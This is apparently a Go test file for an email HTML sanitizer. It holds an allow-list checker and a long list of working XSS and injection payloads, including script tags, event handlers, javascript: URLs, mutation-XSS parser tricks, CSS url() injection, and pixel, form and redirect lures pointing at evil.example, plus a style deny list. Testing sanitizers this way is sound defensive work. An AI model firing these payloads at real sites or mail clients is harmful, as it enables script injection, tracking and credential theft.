package mail

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// unsafe returns what in a fragment could run, load or leave its place, read as a browser
// reads it. It is written apart from the filter, as a list of what is harmless.
func unsafe(fragment string) string {
	elements := strings.Fields(`a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn
		div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike
		strong sub sup table tbody td tfoot th thead tr tt u ul var wbr`)
	doc, err := html.Parse(strings.NewReader("<!doctype html><html><head></head><body>" + fragment + "</body></html>"))
	if err != nil {
		return err.Error()
	}
	for n := range doc.Descendants() {
		switch n.Type {
		case html.CommentNode:
			return "comment " + n.Data
		case html.ElementNode:
			if n.Data == "html" || n.Data == "head" || n.Data == "body" {
				if len(n.Attr) > 0 {
					return "attributes on " + n.Data
				}
				continue
			}
			if !slices.Contains(elements, n.Data) || n.Namespace != "" {
				return "element " + n.Namespace + " " + n.Data
			}
			for _, a := range n.Attr {
				if why := unsafeAttr(n.Data, a); why != "" {
					return why
				}
			}
		}
	}
	return ""
}

func unsafeAttr(element string, a html.Attribute) string {
	val := strings.ToLower(strings.TrimSpace(a.Val))
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Namespace != "":
		return "attribute " + a.Key
	case a.Key == "src":
		if element != "img" || !strings.HasPrefix(val, "data:image/") || strings.Contains(val, "svg") {
			return "src " + a.Val
		}
	case a.Key == "href":
		if element != "a" || !strings.HasPrefix(val, "http:") && !strings.HasPrefix(val, "https:") && !strings.HasPrefix(val, "mailto:") && !strings.HasPrefix(val, "tel:") {
			return "href " + a.Val
		}
	case a.Key == "style":
		for _, bad := range []string{"url", "import", "expression", "\\", "/*", "position", "behavior", "binding", "<", "javascript", "margin: -", "margin:-", "z-index", "var("} {
			if strings.Contains(val, bad) {
				return "style " + a.Val
			}
		}
	case slices.Contains([]string{"id", "name", "class", "background", "action", "srcset", "srcdoc", "poster", "formaction", "usemap", "ping", "http-equiv", "data"}, a.Key):
		return "attribute " + a.Key
	}
	return ""
}

var hostileHTML = []string{
	`<script>alert(1)</script>hello`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)" `,
	`<img/src/onerror=alert(1)>`,
	"<img src=`x` onerror=alert(1)>",
	`<body onload=alert(1)>hello`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><p title="</template><img src=x onerror=alert(1)>">`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<title><p title="</title><img src=x onerror=alert(1)>">`,
	`<iframe><p title="</iframe><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<style><img src="</style><img src=x onerror=alert(1)//">`,
	`<select><template><img src=x onerror=alert(1)>`,
	`<table><tr><td><svg><desc><table><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="java&#x0A;script:alert(1)">x</a>`,
	`<a href="java&Tab;script&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:image/png;base64,aGVsbG8=">x</a>`,
	`<a href="cid:x">x</a>`,
	`<a href="//evil.example/">x</a>`,
	`<a href="/settings">x</a>`,
	`<a href="#top">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="https://acme.example" target="_top" ping="https://evil.example">x</a>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="http://evil.example/pixel.gif" srcset="http://evil.example/2x.gif 2x">`,
	`<picture><source srcset="http://evil.example/x"><img src="http://evil.example/y"></picture>`,
	`<video src="http://evil.example/x" poster="http://evil.example/y" autoplay></video><audio src=x></audio>`,
	`<object data="http://evil.example/x"></object><embed src="http://evil.example/x"><applet code=x></applet>`,
	`<iframe src="http://evil.example/"></iframe><frameset><frame src=x></frameset>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<link rel=stylesheet href="http://evil.example/x.css"><link rel=prefetch href=http://evil.example/>`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/">`,
	`<base href="http://evil.example/"><a href="x">x</a>`,
	`<form action="http://evil.example/"><input name=password><button formaction=x>Send</button></form>`,
	`<style>@import url(http://evil.example/x.css); body { background: url(http://evil.example/) }</style>`,
	`<p style="background: url(http://evil.example/x)">x</p>`,
	`<p style="background-image: url('http://evil.example/x')">x</p>`,
	`<p style="background: u\72l(http://evil.example/x)">x</p>`,
	`<p style="background:/**/url(http://evil.example/x)">x</p>`,
	`<p style="width: expression(alert(1))">x</p>`,
	`<p style="-moz-binding: url(x); behavior: url(x)">x</p>`,
	`<p style="list-style: url(http://evil.example/x)">x</p>`,
	`<p style="font-family: 'x'; @import 'http://evil.example/x'">x</p>`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>`,
	`<p style="margin: -500px 0 0 -500px">x</p>`,
	`<p style="color: red}</style><script>alert(1)</script>">x</p>`,
	`<p style='font-family: "</p><img src=x onerror=alert(1)>"'>x</p>`,
	`<table background="http://evil.example/x"><tr><td background="http://evil.example/y">x`,
	`<div id="app" class="btn" name="x">x</div>`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	"<img src=x o\x00nerror=alert(1)><scr\x00ipt>alert(1)</script>",
	`<p title="&quot;><img src=x onerror=alert(1)>">x</p>`,
	`<img alt="&quot; onerror=&quot;alert(1)" src="cid:&quot; onerror=&quot;alert(1)">`,
	`</div></body></html><script>alert(1)</script>`,
	`<div><div><p>unclosed <b>bold <a href="https://acme.example/">link`,
	`<<<<a href="https://acme.example">>>>`,
	`<a href="https://acme.example/" style="display:block" onclick='alert(1)'>x</a >`,
	strings.Repeat("<div>", 5000) + "x",
	strings.Repeat("<b><i>", 500) + strings.Repeat("</b></i>", 700),
}

func TestSafeHTMLLeavesNothingHostile(t *testing.T) {
	for _, in := range hostileHTML {
		got := SafeHTML(in, SafeOptions{})
		if why := unsafe(got); why != "" {
			t.Errorf("%.200q becomes %.300q: %s", in, got, why)
		}
		if again := SafeHTML(got, SafeOptions{}); unsafe(again) != "" {
			t.Errorf("%.200q becomes %.300q the second time", in, again)
		}
	}
}

// What the check above finds in HTML that was not made safe, so that it is known to find something.
func TestTheJudgeOfSafeHTMLSees(t *testing.T) {
	seen := 0
	for _, in := range hostileHTML {
		if unsafe(in) != "" {
			seen++
		}
	}
	if seen < len(hostileHTML)*9/10 {
		t.Errorf("only %d of %d hostile fragments are recognised", seen, len(hostileHTML))
	}
}

func TestSafeHTMLKeepsTheLetter(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"text", "a &lt; b &amp; c", "a &lt; b &amp; c"},
		{"formatting", `<p style="color:red;font-size:12px"><b>x</b></p>`, `<p style="color: red; font-size: 12px"><b>x</b></p>`},
		{"colors", `<td style="background:#ffeecc;color:rgb(1, 2, 3)" bgcolor="#fff" width="50%">x</td>`, `<td style="background: #ffeecc; color: rgb(1, 2, 3)" bgcolor="#fff" width="50%">x</td>`},
		{"hidden preheader", `<div style="display:none">x</div>`, `<div style="display: none">x</div>`},
		{"font", `<font face="Arial, sans-serif" size="2" color="#333333">x</font>`, `<font face="Arial, sans-serif" size="2" color="#333333">x</font>`},
		{"link", `<a href="https://acme.example/?a=1&amp;b=2">x</a>`, `<a href="https://acme.example/?a=1&amp;b=2" rel="noreferrer noopener" target="_blank">x</a>`},
		{"mail link", `<a href="mailto:ann@acme.example">x</a>`, `<a href="mailto:ann@acme.example" rel="noreferrer">x</a>`},
		{"own picture", `<img alt="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`, `<img alt="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`},
		{"unclosed", `<div><p>one<b>two`, `<div><p>one<b>two</b></p></div>`},
		{"crossed", `<b><i>x</b>y</i>`, `<b><i>x</i></b>y`},
		{"closing too much", `</div></td>x`, `x`},
		{"Outlook", `<o:p>&nbsp;</o:p><p class="MsoNormal" style="mso-margin-top-alt:auto;margin:0cm">x</p>`, "\u00a0<p style=\"margin: 0cm\">x</p>"},
		{"list", `<ol start="3" type="a"><li value="4">x</li></ol>`, `<ol start="3" type="a"><li value="4">x</li></ol>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SafeHTML(tt.in, SafeOptions{}); got != tt.want {
				t.Errorf("SafeHTML(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestSafeHTMLAsksForPictures(t *testing.T) {
	const in = `<img src="cid:logo@acme.example" width="10"><img src="cid:gone%40acme.example"><img src="https://evil.example/pixel?id=1&amp;x=2" alt="pixel">`
	var blocked []string
	opt := SafeOptions{
		CID: func(id string) string {
			if id == "logo@acme.example" {
				return `/attachment/1?a="&b=2`
			}
			if id != "gone@acme.example" {
				t.Errorf("asked for the unknown id %q", id)
			}
			return ""
		},
		Blocked: func(url string) { blocked = append(blocked, url) },
	}
	if got, want := SafeHTML(in, opt), `<img width="10" src="/attachment/1?a=&#34;&amp;b=2"><img><img alt="pixel">`; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if want := []string{"https://evil.example/pixel?id=1&x=2"}; !slices.Equal(blocked, want) {
		t.Errorf("blocked %q, want %q", blocked, want)
	}

	blocked = nil
	opt.Remote = func(url string) string { return "/picture?url=" + strings.TrimPrefix(url, "https://") }
	if got, want := SafeHTML(in, opt), `src="/picture?url=evil.example/pixel?id=1&amp;x=2"`; !strings.Contains(got, want) || blocked != nil {
		t.Errorf("got %q with %q blocked, want %q in it", got, blocked, want)
	}
}

func TestCorpusHTMLIsMadeSafe(t *testing.T) {
	count := 0
	see := func(name string, data []byte) {
		m, err := Parse(bytes.NewReader(data))
		if err != nil || m.HTML == "" {
			return
		}
		count++
		got := SafeHTML(m.HTML, SafeOptions{})
		if why := unsafe(got); why != "" {
			t.Errorf("%s: %s", name, why)
		}
		if before, after := len(Text(m.HTML)), len(Text(got)); after < before/2 {
			t.Errorf("%s: of %d characters of text %d are left", name, before, after)
		}
	}
	smallCorpus(t, see)
	if !testing.Short() {
		n := 0
		largeCorpus(t, func(i int, data []byte) {
			if n++; n%10 == 0 { // one in ten takes long enough
				see(fmt.Sprintf("large %d", i), data)
			}
		})
	}
	t.Logf("%d messages with HTML", count)
}
